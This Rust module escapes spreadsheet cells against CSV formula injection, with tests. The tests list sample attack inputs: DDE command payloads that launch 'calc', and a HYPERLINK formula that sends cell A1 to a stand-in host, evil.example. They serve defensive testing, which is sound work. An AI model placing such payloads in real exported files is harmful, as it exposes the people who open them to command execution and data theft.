//! A cell of a table that a spreadsheet will open: text stays text.

/// By which a spreadsheet knows a formula, also in the wide forms of East Asian keyboards.
const FORMULA: &[char] = &['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// A text of the user's or a stranger's as a cell, with an apostrophe before it where a spreadsheet would take it for a
/// formula (OWASP, *CSV Injection*).
///
/// White space in front is looked past, since programs strip it; a tab or a return in front is itself such a sign.
pub(super) fn text(text: &str) -> String {
    let begins_a_formula = text.trim_start().starts_with(FORMULA);
    if begins_a_formula || text.starts_with(['\t', '\r']) { format!("'{text}") } else { text.to_owned() }
}

/// A text that may be unknown: an empty cell then.
pub(super) fn maybe(known: Option<&str>) -> String {
    known.map(text).unwrap_or_default()
}

/// Several texts in one cell.
pub(super) fn joined(texts: impl IntoIterator<Item = impl AsRef<str>>) -> String {
    let texts: Vec<_> = texts.into_iter().collect();
    text(&texts.iter().map(AsRef::as_ref).collect::<Vec<_>>().join("; "))
}

/// A value of ours, such as a date or an id: never changed, since none begins like a formula.
pub(super) fn ours(value: Option<impl ToString>) -> String {
    value.map(|value| value.to_string()).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn a_formula_becomes_text() {
        for formula in [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"ok\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+358 40 1234567",
            "-2+3+cmd|' /C calc'!D2",
            "\t=1+1",
            "\r=1+1",
            "\tplain",
            "  =1+1",
            "\u{A0}\u{3000}=1+1",
            "\n-1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
            "=",
        ] {
            assert_eq!(text(formula), format!("'{formula}"), "{formula:?}");
        }
    }

    #[test]
    fn anything_else_stays_as_it_is() {
        for plain in
            ["", "Acme Oy", "a=b", "1-2", "'=1", "(=1)", "“=1”", "äiti", "; =1", "2026-11-22", "a\t=1"]
        {
            assert_eq!(text(plain), plain);
        }
        assert_eq!(joined(["a", "=1"]), "a; =1");
        assert_eq!(joined(["=1", "a"]), "'=1; a");
        assert_eq!(joined([""; 0]), "");
    }

    proptest! {
        #[test]
        fn no_cell_begins_a_formula(typed in "[ \\t\\r\\n'=@＝a-]{0,5}|\\PC{0,10}") {
            let cell = text(&typed);
            prop_assert!(!cell.trim_start().starts_with(FORMULA));
            prop_assert!(cell == typed || cell.strip_prefix('\'') == Some(&typed));
        }
    }
}
